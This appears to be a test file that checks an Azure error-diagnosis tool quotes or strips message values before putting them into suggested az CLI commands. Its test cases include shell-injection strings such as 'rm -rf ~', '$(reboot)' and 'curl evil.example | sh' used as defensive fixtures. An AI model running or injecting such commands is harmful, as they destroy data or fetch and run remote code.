/** Values of a message in the commands of the advice: who pastes a command must not run what a message says. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderAdvice } from "../../src/catalog/advice.js";
import type { RuleKnowledge } from "../../src/catalog/rule.js";
import { diagnose } from "../../src/diagnose.js";

const ruleWith = (...steps: string[]): RuleKnowledge => ({
  id: "plum",
  disposition: "permanent",
  category: "other",
  explanation: "Plum {vmName}.",
  steps,
  docs: "https://learn.microsoft.com",
});

const stepOf = (step: string, parameters: Record<string, string>): string | undefined =>
  renderAdvice(ruleWith(step), parameters).remedy.steps[0];

describe("a value of the message in a command", () => {
  const start = "Start it: az vm start -g <resource-group> -n {vmName}";

  it.each([
    ["a name", "web-01", "-n web-01"],
    [
      "an id",
      "/subscriptions/s/resourceGroups/rg_1/providers/Microsoft.Compute/virtualMachines/web(1)",
      '-n "/subscriptions/s/resourceGroups/rg_1/providers/Microsoft.Compute/virtualMachines/web(1)"',
    ],
    ["an id without brackets", "/subscriptions/s/virtualMachines/web_1", "-n /subscriptions/s/virtualMachines/web_1"],
    ["a region with a blank", "West US 2", '-n "West US 2"'],
    ["a second command", "'; rm -rf ~ #", "-n <vmName>"],
    ["a second command without quotation marks", "web && curl evil.example | sh", "-n <vmName>"],
    ["a substitution", "$(reboot)", "-n <vmName>"],
    ["an old substitution", "`reboot`", "-n <vmName>"],
    ["a variable of cmd", "%PATH%", "-n <vmName>"],
    ["an option", "--output=tsv", "-n <vmName>"],
    ["a line break", "web\nreboot", "-n <vmName>"],
  ])("%s", (_, vmName, expected) => {
    expect(stepOf(start, { vmName })).toBe(`Start it: az vm start -g <resource-group> ${expected}`);
  });

  it("is not quoted twice", () => {
    const step = "az vm list --query \"[?location=='{region}'].name\"";
    expect(stepOf(step, { region: "West US" })).toBe("az vm list --query \"[?location=='West US'].name\"");
    expect(stepOf(step, { region: "x'] || [?'" })).toBe("az vm list --query \"[?location=='<region>'].name\"");
  });

  it("is as it was in a sentence", () => {
    expect(stepOf("Use one of these sizes: {sizes}", { sizes: "A, B & C" })).toBe("Use one of these sizes: A, B & C");
  });

  it("never holds what a shell reads, whatever the message says", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 60 }), (vmName) => {
        const argument = stepOf(start, { vmName })?.slice("Start it: az vm start -g <resource-group> -n ".length) ?? "";
        expect(argument).toMatch(/^(?:<vmName>|[\w./:@+][\w./:@+,=-]*|"[\w/][\w./:@+,=() -]*")$/);
      }),
    );
  });
});

it("leaves out of the advice what an attacker writes into a message", () => {
  const name = "x'; curl evil.example | sh; echo '";
  const body = {
    error: { code: "ResourceGroupNotFound", message: `Resource group '${name}' could not be found.` },
  };
  const { remedy } = diagnose(body);
  expect(remedy.steps.some((step) => step.includes("az group create -n <resourceGroup>"))).toBe(true);
  expect(remedy.steps.join("\n")).not.toContain("evil");
});
